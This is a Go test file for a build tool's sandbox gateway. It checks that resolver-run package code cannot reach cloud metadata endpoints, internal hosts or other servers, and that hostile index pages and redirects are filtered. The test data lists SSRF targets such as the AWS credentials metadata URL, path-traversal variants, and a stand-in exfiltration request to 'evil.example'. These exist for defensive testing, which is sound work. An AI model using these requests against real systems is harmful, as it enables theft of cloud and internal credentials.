package security

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/raybuild/raybuild/internal/hostconf"
	"github.com/raybuild/raybuild/internal/registry"
	"github.com/raybuild/raybuild/internal/sources"
	"github.com/raybuild/raybuild/layers"
)

// server notes what it is asked, and answers by path. HERE in an answer is its own address.
type server struct {
	*httptest.Server
	pages map[string]string

	mu    sync.Mutex
	asked []string // path, and the login that came with it
}

func newServer(t *testing.T, pages map[string]string) *server {
	t.Helper()
	s := &server{pages: pages}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		user, password, _ := r.BasicAuth()
		s.mu.Lock()
		s.asked = append(s.asked, strings.TrimSpace(r.URL.Path+" "+user+" "+password))
		s.mu.Unlock()
		page, ok := s.pages[r.URL.Path]
		if to, moved := strings.CutPrefix(page, "moved "); moved {
			http.Redirect(w, r, to, http.StatusFound)
			return
		}
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, strings.ReplaceAll(page, "HERE", s.URL))
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *server) requests() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.asked, "; ")
}

// gateway is the sources of a recipe, as code in the sandbox of a resolver reaches them.
type gateway struct {
	t       *testing.T
	sources *sources.Sources

	mu     sync.Mutex
	warned []string
}

// newGateway knows a recipe with an index of its own. Each host of the netrc file has a login.
func newGateway(t *testing.T, index string, hosts ...string) *gateway {
	t.Helper()
	var netrc strings.Builder
	for _, h := range hosts {
		fmt.Fprintf(&netrc, "machine %s login joe password secret\n", h)
	}
	file := filepath.Join(t.TempDir(), "netrc")
	if err := os.WriteFile(file, []byte(netrc.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("NETRC", file)
	recipe, err := layers.LoadRecipe(fmt.Appendf(nil, "mirrors: {fetch: [official]}\n"+
		"ray: {version: 2.49.0, extras: []}\npip: {packages: [ours], extra_indexes: [{url: %q, packages: [ours]}]}\n",
		index), "raybuild.yaml", nil)
	if err != nil {
		t.Fatal(err)
	}
	g := &gateway{t: t}
	g.sources, err = sources.New(sources.Options{Store: t.TempDir(), Registry: registry.New(registry.Options{}),
		Recipe: recipe, Mirrors: layers.Presets()[:1], Host: hostconf.Config{},
		Warn: func(text string) {
			g.mu.Lock()
			defer g.mu.Unlock()
			g.warned = append(g.warned, text)
		}})
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// get asks for a URL as code in the sandbox does.
func (g *gateway) get(raw string) (status int, body string) {
	g.t.Helper()
	ours, theirs := net.Pipe()
	go g.sources.ServeConn(theirs)
	defer ours.Close()
	_, err := fmt.Fprintf(ours, "GET %s HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\nConnection: close\r\n\r\n", raw)
	if err != nil {
		g.t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(ours), nil)
	if err != nil {
		g.t.Fatalf("ask for %s: %v", raw, err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		g.t.Fatalf("read %s: %v", raw, err)
	}
	return resp.StatusCode, string(data)
}

// TestH2GatewayReachesOnlySources: a package's code runs while resolvers look at it. It asks the gateway for what this
// machine, its site or its cloud would tell, and wants to send it away.
func TestH2GatewayReachesOnlySources(t *testing.T) {
	victim := newServer(t, map[string]string{"/containers/json": "secret", "/simple/": "", "/admin": "secret"})
	g := newGateway(t, victim.URL+"/simple", "127.0.0.1", "artifactory.corp", "evil.example", "10.0.0.5")
	other := newServer(t, map[string]string{"/containers/json": "secret"})
	for _, raw := range []string{
		other.URL + "/containers/json",                                      // another service of this machine
		strings.Replace(other.URL, "127.0.0.1", "localhost", 1) + "/x",      // by its name
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/", // AWS
		"http://100.100.100.200/latest/meta-data/",                          // Alibaba
		"http://[fd00:ec2::254]/latest/meta-data/",
		"http://10.0.0.5/", // the site
		"http://artifactory.corp/api/security/users",
		"http://evil.example/?d=secret", // away with it
		victim.URL + "/admin",           // the index's server beside the index
		victim.URL + "/simple/../admin",
		victim.URL + "/simple/%2e%2e/admin",
	} {
		if status, body := g.get(raw); status != http.StatusForbidden || strings.Contains(body, "secret\n") {
			t.Errorf("%s: %d %s", raw, status, body)
		}
	}
	if asked := victim.requests() + other.requests(); asked != "" {
		t.Errorf("the gateway asked for %s", asked)
	}
	if len(g.warned) == 0 || !strings.Contains(strings.Join(g.warned, "\n"), "169.254.169.254") {
		t.Errorf("the user reads %q", g.warned)
	}
}

// TestH2PagesLeadToNoInternalAddress: the index of a recipe is hostile, or its answers are changed on the way.
func TestH2PagesLeadToNoInternalAddress(t *testing.T) {
	other := newServer(t, map[string]string{"/ours-2.tar.gz": "secret", "/ours-3.tar.gz": "secret"})
	index := newServer(t, map[string]string{
		"/simple/ours/": `<a href="http://169.254.169.254/ours-1.tar.gz">a</a>` +
			`<a href="http://100.100.100.200/ours-1.tar.gz">b</a><a href="http://[fe80::1]/ours-1.tar.gz">c</a>` +
			`<a href="` + other.URL + `/ours-2.tar.gz">d</a><a href="HERE/files/ours-4.tar.gz">e</a>`,
		"/simple/moved/":        "moved http://169.254.169.254/latest/",
		"/files/ours-4.tar.gz":  "file",
		"/simple/ours-3.tar.gz": "moved " + other.URL + "/ours-3.tar.gz",
	})
	g := newGateway(t, index.URL+"/simple", "127.0.0.1")
	status, page := g.get(index.URL + "/simple/ours/")
	for _, gone := range []string{"169.254", "100.100", "fe80"} {
		if status != http.StatusOK || strings.Contains(page, gone) {
			t.Errorf("the page leads to %s: %d %s", gone, status, page)
		}
	}
	if status, body := g.get(index.URL + "/simple/moved/"); status < 400 {
		t.Errorf("a page that leads to the metadata: %d %s", status, body)
	}
	// A file server beside the index is usual. It gets no login of the index.
	at := func(name string) string {
		i := strings.Index(page, name)
		if i < 0 {
			t.Fatalf("the page has no %s: %s", name, page)
		}
		return page[strings.LastIndex(page[:i], `"`)+1 : i+len(name)]
	}
	if status, body := g.get(at("ours-2.tar.gz")); status != http.StatusOK || body != "secret" {
		t.Errorf("a file beside the index: %d %s", status, body)
	}
	if status, body := g.get(at("ours-4.tar.gz")); status != http.StatusOK || body != "file" {
		t.Errorf("a file of the index: %d %s", status, body)
	}
	if status, body := g.get(index.URL + "/simple/ours-3.tar.gz"); status != http.StatusOK {
		t.Errorf("a file that is elsewhere: %d %s", status, body)
	}
	if asked := other.requests(); strings.Contains(asked, "joe") {
		t.Errorf("the login went to another server: %s", asked)
	}
	if asked := index.requests(); strings.Count(asked, "joe secret") != 4 {
		t.Errorf("the index was asked for %s, want its login four times", asked)
	}
}

// TestM1IndexAnswersForItsProjectsOnly: pip takes each file that any page lists, by the file's name.
func TestM1IndexAnswersForItsProjectsOnly(t *testing.T) {
	index := newServer(t, map[string]string{"/simple/ours/": `<a href="HERE/cachetools-99-py3-none-any.whl">a</a>` +
		`<a href="HERE/ours-1-py3-none-any.whl">b</a><a href="HERE/ours-more-1.tar.gz">c</a>`})
	_, page := newGateway(t, index.URL+"/simple").get(index.URL + "/simple/ours/")
	if !strings.Contains(page, "ours-1-py3") || strings.Contains(page, "cachetools") ||
		strings.Contains(page, "ours-more") {
		t.Errorf("the page of ours lists %s", page)
	}
}

// TestH2HTTPSSourcesStayHTTPS: the sandbox writes http for all. What it asked for is locked as https, and never asked
// for in the clear.
func TestH2HTTPSSourcesStayHTTPS(t *testing.T) {
	g := newGateway(t, "https://nexus.example/repository/pypi/simple", "nexus.example")
	for raw, want := range map[string]string{
		"http://nexus.example/repository/pypi/simple/ours/": "https://nexus.example/repository/pypi/simple/ours/",
		"http://pypi.org/simple/ray/":                       "https://pypi.org/simple/ray/",
		"http://archive.ubuntu.com/ubuntu/dists/":           "http://archive.ubuntu.com/ubuntu/dists/",
	} {
		u, err := url.Parse(raw)
		if err != nil {
			t.Fatal(err)
		}
		if got := g.sources.Canonical(u).String(); got != want {
			t.Errorf("%s is %s, want %s", raw, got, want)
		}
	}
}

// Requests of resolvers and what the lock tells come at once: nobody waits for ever.
func TestGatewayAnswersWhileMoreIsKnown(t *testing.T) {
	index := newServer(t, map[string]string{"/simple/ours/": `<a href="HERE/ours-1-py3-none-any.whl">a</a>`})
	g := newGateway(t, index.URL+"/simple")
	stop := make(chan struct{})
	var work sync.WaitGroup
	for n := range 4 {
		work.Go(func() {
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				g.sources.Know([]layers.Artifact{{Kind: layers.KindWheel, Name: "a", Version: "1",
					Origin: "http://own.example", Path: fmt.Sprintf("a-%d-%d-py3-none-any.whl", n, i%50),
					SHA256: strings.Repeat("a", 64)}}, nil)
			}
		})
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 300 {
			g.get(index.URL + "/simple/ours/")
			g.get("http://elsewhere.example/")
		}
	}()
	select {
	case <-done:
	case <-time.After(time.Minute):
		t.Error("the gateway does not answer any more")
	}
	close(stop)
	if !t.Failed() {
		work.Wait()
	}
}
